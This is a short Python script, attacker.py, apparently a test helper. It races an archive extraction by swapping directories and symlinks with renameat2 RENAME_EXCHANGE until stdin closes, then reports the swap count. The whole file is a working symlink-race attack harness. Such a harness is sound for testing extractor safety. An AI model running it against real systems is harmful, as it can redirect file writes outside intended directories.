# Swaps directories for links, as fast as it can, until its standard input ends; then it says how often it has.
#
#   attacker.py <directory> <pair>…     where a pair is "a:b", two names to exchange by renameat2(2)
#
# In the directory, and in whatever begins with "." in the directory around it: there an archive is unpacked that is not whole yet.
import ctypes, os, select, sys

AT_FDCWD, RENAME_EXCHANGE = -100, 2
renameat2 = ctypes.CDLL(None, use_errno=True).renameat2

directory = os.fsencode(sys.argv[1])
around = os.path.dirname(directory)
pairs = [os.fsencode(pair).split(b":") for pair in sys.argv[2:]]


def targets():
    hidden = [os.path.join(around, name) for name in os.listdir(around) if name.startswith(b".")]
    return [
        (os.path.join(place, a), os.path.join(place, b))
        for place in [directory, *hidden]
        for a, b in pairs
    ]


swaps = 0
print("ready", flush=True)
while not select.select([sys.stdin], [], [], 0)[0]:
    for _ in range(3):
        for a, b in targets():
            for _ in range(8):
                if renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0:
                    swaps += 1
print(swaps)
